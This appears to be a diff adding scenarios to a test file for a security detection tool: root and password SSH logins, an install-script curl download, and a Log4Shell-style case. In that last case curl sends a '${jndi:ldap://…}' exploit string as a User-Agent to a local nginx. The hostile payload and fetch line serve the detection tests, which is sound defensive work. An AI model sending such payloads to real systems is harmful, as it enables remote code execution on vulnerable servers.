@@ -14,3 +14,15 @@ evince -c 'sh -c true; true'
 /media/ann/STICK/setup
 ## Download tool started by an install script
 sh -c 'curl -s http://10.9.8.7/ || true; : postinstall'
+## Root login over SSH with a password
+#setup logins; logged
+/usr/sbin/sshd -f /srv/sshd
+login right root; written
+## Login from the internet with a password
+#setup logins; logged
+/usr/sbin/sshd -f /srv/sshd
+login right ann; written
+## Attack on a library seen in a log
+#setup logged
+#setup mkdir -p /var/lib/nginx; printf 'events {}\nhttp { access_log /var/log/nginx/access.log; server { listen 80; } }\n' > /srv/nginx.conf
+nginx -c /srv/nginx.conf; curl -s -o /tmp/page -A '${jndi:ldap://203.0.113.9/x}' http://10.9.8.7/; nginx -c /srv/nginx.conf -s quit
